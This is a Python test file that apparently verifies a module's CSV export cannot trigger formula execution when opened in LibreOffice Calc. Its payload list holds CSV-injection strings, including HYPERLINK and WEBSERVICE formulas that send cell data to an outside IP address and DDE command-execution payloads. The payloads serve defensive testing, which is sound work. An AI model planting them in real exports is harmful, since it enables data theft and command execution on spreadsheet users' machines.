"""The tables of a copy in a real spreadsheet: whatever a cell begins with, nothing is computed or fetched."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from assistant.disclosure.values import BOM, csv_lines

SOFFICE = shutil.which("soffice")
pytestmark = [
    pytest.mark.skipif(SOFFICE is None, reason="needs Debian's libreoffice-calc-nogui (apt-get install it)"),
    pytest.mark.timeout(120),
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?"&A1,"look")',
    '=WEBSERVICE("http://203.0.113.9/")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "harmless;=1+1",
    "harmless\n=1+1",
    "harmless\t=1+1",
    '"=1+1',
    "'=1+1",
    "{=1+1}",
    '=DDE("soffice";"x";"y")',
    "%=1+1",
    "|=1+1",
]
# Separator, quote, UTF-8, from line 1, …, detect numbers, …, evaluate formulas: the worst that somebody may choose.
COMMA = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
SEMICOLON = "CSV:59,34,76,1,,0,false,true,false,false,false,0,true"
TAB = "CSV:9,34,76,1,,0,false,true,false,false,false,0,true"
_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}
_FORMULA = f"{{{_NS['table']}}}formula"


def opened(csv: Path, how: str, folder: Path) -> ET.Element:
    """Open a file in the spreadsheet and give what it made of it."""
    assert SOFFICE
    profile = folder / "profile"
    subprocess.run(
        [
            SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", f"--infilter={how}",
            "--convert-to", "fods", "--outdir", str(folder), str(csv),
        ],
        check=True, capture_output=True, timeout=100,
    )  # fmt: skip
    return ET.parse(folder / f"{csv.stem}.fods").getroot()  # noqa: S314 - our own spreadsheet wrote it


def formulas(sheet: ET.Element) -> list[str]:
    cells = sheet.iter(f"{{{_NS['table']}}}table-cell")
    return [cell.attrib[_FORMULA] for cell in cells if _FORMULA in cell.attrib]


@pytest.fixture
def csv(tmp_path: Path) -> Path:
    file = tmp_path / "visits.csv"
    rows = [[n, text, "after"] for n, text in enumerate(FORMULAS)]
    file.write_bytes(BOM + csv_lines([["id", "words", "more"], *rows, [99, -12.5, "õun, ça"]]))
    return file


@pytest.mark.parametrize("how", [COMMA, SEMICOLON, TAB], ids=["comma", "semicolon", "tab"])
def test_no_cell_is_a_formula_however_it_is_opened(csv: Path, tmp_path: Path, how: str) -> None:
    sheet = opened(csv, how, tmp_path)
    assert formulas(sheet) == []
    assert not list(sheet.iter(f"{{{_NS['office']}}}dde-source"))


def test_words_and_numbers_are_still_what_they_were(csv: Path, tmp_path: Path) -> None:
    sheet = opened(csv, COMMA, tmp_path)
    rows = [
        ["\n".join("".join(p.itertext()) for p in cell.iter(f"{{{_NS['text']}}}p")) for cell in row]
        for row in sheet.iter(f"{{{_NS['table']}}}table-row")
    ]
    told = [row for row in rows if row and row[0].isdigit()]
    assert len(told) == len(FORMULAS) + 1
    for row, text in zip(told, FORMULAS, strict=False):
        kept = re.sub(r"[\s'\u200b\ufeff]", "", text)
        assert re.sub(r"[\s'\u200b\ufeff]", "", row[1]) == kept, "nothing is lost but the guard's apostrophe"
    assert told[-1][1:3] == ["-12.5", "õun, ça"]


def test_the_spreadsheet_would_compute_what_is_not_guarded(tmp_path: Path) -> None:
    """A check that cannot fail proves nothing: without the guard the same spreadsheet finds formulas."""
    file = tmp_path / "open.csv"
    file.write_text("id,words\n1,=1+1\n", encoding="utf-8")
    assert formulas(opened(file, COMMA, tmp_path)) == ["of:=1+1"]
